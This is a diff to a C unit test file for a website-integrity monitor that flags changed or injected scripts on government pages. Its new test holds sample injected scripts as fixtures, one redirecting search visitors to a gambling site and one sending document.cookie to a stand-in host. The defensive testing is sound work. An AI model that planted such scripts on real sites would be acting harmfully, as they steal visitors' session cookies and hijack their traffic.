@@ -285,8 +285,8 @@ static void test_baseline(void **state)
 	sg_err e = {0};
 	assert_true(mon_selector_parse("#berita", &ign, &e));
 	mon_page base = parse(base_html, &ign, 1);
-	const char *scripts[] = {"https://cdn.contohkab.go.id/a.js"};
-	mon_baseline bl = {base.text, scripts, 1};
+	const mon_script_seen scripts[] = {{"https://cdn.contohkab.go.id/a.js", ""}};
+	mon_baseline bl = {base.text, scripts, 1, true};
 	mon_fetch_res b = reached(url);
 	/* only the dynamic region changed: nothing */
 	mon_page same = parse("<body><h1>Dinas</h1><p>Layanan</p><p>Alamat</p><p>Telepon</p>"
@@ -370,6 +370,92 @@ static void test_baseline(void **state)
 	mon_page_free(&base);
 	mon_scan_free(s);
 	mon_rules_free(r);
+}
+
+/* Scripts against the baseline: a script of the site at the same URL whose
+ * body hashes otherwise is skrip_berubah (high); one not hashed, or hashed
+ * alike, is nothing; an inline script the baseline did not have is
+ * skrip_berubah (medium), one whose nonce and time alone changed is not. */
+static void test_script_hashes(void **state)
+{
+	(void)state;
+	const char *url = "https://dinkes.contohkab.go.id/";
+	diags d = DIAGS_INIT;
+	mon_rules *r = mon_rules_load(NULL, 0, true, &d);
+	mon_scan *s = mon_scan_new(r);
+	mon_limits lim = {.now = 1800000000, .slow_ms = 5000, .replaced_min = 0.8};
+	mon_fetch_res b = reached(url);
+	const char *html_a = "<body><p>Dinas</p><script src='/js/app.js'></script>"
+	                     "<script>var wp = {\"nonce\": \"a1b2c3d4e5\", \"t\": 1764900000};"
+	                     "init(wp);</script></body>";
+	const char *html_b = "<body><p>Dinas</p><script src='/js/app.js'></script>"
+	                     "<script>var wp = {\"nonce\": \"9f8e7d6c5b\", \"t\": 1764903600};"
+	                     "init(wp);</script></body>";
+	mon_page pa = parse(html_a, NULL, 0), pb = parse(html_b, NULL, 0);
+	assert_int_equal(pa.n_scripts, 2);
+	/* the nonce and the time alone changed: the same inline hash */
+	assert_string_equal(pa.scripts[1].sha256, pb.scripts[1].sha256);
+	assert_string_equal(pa.scripts[1].excerpt, "var wp = {\"nonce\": \"a1b2c3d4e5\", \"t\": 1764900000};init(wp);");
+	const char *h1 = "1111111111111111111111111111111111111111111111111111111111111111";
+	const char *h2 = "2222222222222222222222222222222222222222222222222222222222222222";
+	mon_script_seen seen[] = {{"https://dinkes.contohkab.go.id/js/app.js", h1},
+	                          {NULL, pa.scripts[1].sha256}};
+	mon_baseline bl = {pa.text, seen, 2, true};
+	mon_findings f = {0};
+	/* the script read with the same hash, and not read at all: nothing */
+	snprintf(pb.scripts[0].sha256, 65, "%s", h1);
+	mon_analyse(url, &b, &pb, NULL, NULL, &bl, s, &lim, &f);
+	assert_int_equal(f.n, 0);
+	pb.scripts[0].sha256[0] = '\0';
+	mon_analyse(url, &b, &pb, NULL, NULL, &bl, s, &lim, &f);
+	assert_int_equal(f.n, 0);
+	/* other content at the same URL: a skimmer written into the file */
+	snprintf(pb.scripts[0].sha256, 65, "%s", h2);
+	mon_analyse(url, &b, &pb, NULL, NULL, &bl, s, &lim, &f);
+	assert_int_equal(f.n, 1);
+	assert_int_equal(f.v[0].kind, MON_F_SCRIPT_CHANGED);
+	assert_string_equal(f.v[0].level, "high");
+	assert_int_equal(f.v[0].value, 0);
+	assert_string_equal(f.v[0].what, "https://dinkes.contohkab.go.id/js/app.js");
+	assert_string_equal(mon_kind_code(f.v[0].kind), "skrip_berubah");
+	mon_findings_free(&f);
+	/* a baseline without the hash (not read then) is not compared */
+	seen[0].sha256 = "";
+	mon_analyse(url, &b, &pb, NULL, NULL, &bl, s, &lim, &f);
+	assert_int_equal(f.n, 0);
+	/* an inline script injected: one finding, with its first words */
+	mon_page pc = parse("<body><p>Dinas</p><script src='/js/app.js'></script>"
+	                    "<script>var wp = {\"nonce\": \"77aa88bb99\", \"t\": 1};init(wp);</script>"
+	                    "<script>\n  if (document.referrer.match(/google/))\n"
+	                    "    location = 'https://slot.example/';\n</script>"
+	                    "<script>new Image().src='//x.example/c?'+document.cookie</script></body>",
+	                    NULL, 0);
+	mon_analyse(url, &b, &pc, NULL, NULL, &bl, s, &lim, &f);
+	const mon_finding *in = NULL;
+	for (size_t i = 0; i < f.n; i++)
+		if (f.v[i].kind == MON_F_SCRIPT_CHANGED)
+			in = &f.v[i];
+	assert_non_null(in);
+	assert_string_equal(in->level, "medium");
+	assert_int_equal(in->value, 2);
+	assert_string_equal(in->what,
+	                    "if (document.referrer.match(/google/)) location = 'https://slot.example/';");
+	char sentence[1400];
+	mon_finding_sentence(in, same_text, sentence, sizeof sentence);
+	assert_non_null(strstr(sentence, "2 inline scripts"));
+	mon_findings_free(&f);
+	/* a baseline accepted before inline scripts were kept: not compared */
+	bl.inline_known = false;
+	mon_analyse(url, &b, &pc, NULL, NULL, &bl, s, &lim, &f);
+	for (size_t i = 0; i < f.n; i++)
+		assert_int_not_equal(f.v[i].kind, MON_F_SCRIPT_CHANGED);
+	mon_findings_free(&f);
+	mon_page_free(&pa);
+	mon_page_free(&pb);
+	mon_page_free(&pc);
+	mon_scan_free(s);
+	mon_rules_free(r);
+	diags_free(&d);
 }
 
 static void test_sitemap(void **state)
@@ -567,6 +653,7 @@ int main(void)
 		cmocka_unit_test(test_hosts_and_domains), cmocka_unit_test(test_distance),
 		cmocka_unit_test(test_rules_refused),    cmocka_unit_test(test_rules_score),
 		cmocka_unit_test(test_baseline),         cmocka_unit_test(test_sitemap),
+		cmocka_unit_test(test_script_hashes),
 		cmocka_unit_test(test_store_rounds),     cmocka_unit_test(test_inline_script),
 		cmocka_unit_test(test_bad_html_survives),
 	};
